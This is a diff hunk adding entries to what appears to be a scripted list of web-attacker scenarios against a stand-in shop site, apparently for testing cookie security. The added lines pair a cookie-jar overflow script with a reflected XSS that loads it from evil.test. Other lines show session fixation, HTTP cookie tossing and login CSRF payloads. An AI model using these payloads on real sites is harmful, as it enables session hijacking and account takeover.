@@ -37,6 +37,9 @@ mallory serve https://evil.test/ <a href="https://shop.example/prefs?name=$cooki
 mallory serve https://evil.test/ <a href="https://shop.example/prefs?name=$$cookie&value=$$loot%3B%20Path%3D/%3B%20Secure%3B%20HttpOnly">Prize</a>
 mallory serve https://evil.test/ <a href="https://shop.example/search?q=%3Cscript%3Edocument.cookie%3D%22$$cookie%3D$$loot%3B%20Path%3D/%22%3C/script%3E">Prize</a>
 mallory serve https://evil.test/ <a href="https://shop.example/?sid=$$loot">Prize</a>
+mallory serve https://evil.test/fill.js repeat 190 document.cookie="f%d=; Path=/; Secure";
+mallory serve https://evil.test/fill.js document.cookie="$cookie=$loot; Path=/";
+mallory serve https://evil.test/ <a href="https://shop.example/search?q=%3Cscript%20src%3Dhttps://evil.test/fill.js%3E%3C/script%3E">Prize</a>
 mallory serve http://news.example/ <img src="http://shop.example/x">
 mallory serve http://shop.example/x Set-Cookie: $cookie=$loot; Path=/
 mallory serve https://evil.test/ <form method="post" action="https://shop.example/login"><input name="user" value="mallory"><input name="password" value="hunter2"></form>
